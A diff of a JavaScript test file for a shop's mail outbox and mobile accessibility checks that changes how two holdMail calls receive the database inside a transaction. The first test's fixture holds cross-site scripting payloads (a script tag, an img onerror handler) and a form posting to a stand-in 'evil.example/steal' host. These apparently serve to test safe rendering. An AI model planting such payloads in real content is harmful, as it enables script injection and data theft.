@@ -62,8 +62,8 @@ describe('a message of the outbox', () => {
         '<script>document.body.dataset.ran = "yes"; try { parent.document.title = "taken"; } catch (e) {}</script>' +
         '<img src="x" onerror="document.body.dataset.onerror = \'yes\'">' +
         '<form action="https://evil.example/steal"><input name="q"></form></body></html>';
-      env.shop.deps.db.transaction((tx) =>
-        holdMail(tx, { to, subject, kind: 'order_placed', text: 'Hello Kavya,\n\nYour order is on its way.\n\nThank you.', html }, 'Held: a test of the outbox'),
+      env.shop.deps.db.transaction(() =>
+        holdMail(env.shop.deps.db, { to, subject, kind: 'order_placed', text: 'Hello Kavya,\n\nYour order is on its way.\n\nThank you.', html }, 'Held: a test of the outbox'),
       );
       const row = env.shop.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to)).get();
       if (!row) throw new Error('the held message was not written');
@@ -253,8 +253,8 @@ describe('the people screens at 375 px and with axe-core', () => {
     'fit a phone and have no serious or critical accessibility violation',
     async () => {
       const to = `axe-${Date.now()}@example.com`;
-      env.shop.deps.db.transaction((tx) =>
-        holdMail(tx, { to, subject: 'Your order was shipped', kind: 'order_shipped', text: 'Hello,\n\nIt is on its way.', html: '<p>Hello,</p><p>It is on its way.</p>' }, 'Held: a test'),
+      env.shop.deps.db.transaction(() =>
+        holdMail(env.shop.deps.db, { to, subject: 'Your order was shipped', kind: 'order_shipped', text: 'Hello,\n\nIt is on its way.', html: '<p>Hello,</p><p>It is on its way.</p>' }, 'Held: a test'),
       );
       const mailId = env.shop.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to)).get()?.id;
       await apiJson(env.shop.baseUrl, 'POST', '/api/newsletter', undefined, { email: `reader-${Date.now()}@example.com` });
